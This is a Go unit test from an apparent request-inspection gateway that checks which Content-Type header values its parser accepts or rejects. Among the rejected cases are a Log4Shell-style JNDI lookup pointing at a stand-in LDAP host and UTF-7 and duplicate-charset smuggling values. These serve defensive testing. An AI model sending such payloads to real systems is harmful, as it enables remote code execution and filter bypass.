package inspect

import (
	"context"
	"testing"

	"github.com/sallyport/sallyport/config"
)

// What content.ParseMedia reads is no attack for its form; what it refuses stays one.
func TestContentTypes(t *testing.T) {
	for typ, passes := range map[string]bool{
		"application/json; profile=x":                        true,
		"application/json;odata.metadata=minimal;v=1":        true,
		`application/vnd.api+json; ext="https://a.example/"`: true,
		"application/json;":                                  true,
		"application/json; charset=us-ascii":                 true,
		"application/json;charset=utf8":                      true,
		"application/json; charset=utf-7":                    false,
		"application/json; charset=utf-8; charset=utf-7":     false,
		"application/json, text/html":                        false,
		"application/json; v=${jndi:ldap://x.example/a}":     false,
	} {
		e, err := readExchange(get("/", "Content-Type: "+typ))
		if err != nil {
			t.Fatal(err)
		}
		if v, err := testJudge(t, config.Inspect{}).head(context.Background(), e); err != nil || v.Passed() != passes {
			t.Errorf("%s: passed %v, %v; found %s", typ, v.Passed(), err, fields(e))
		}
	}
}
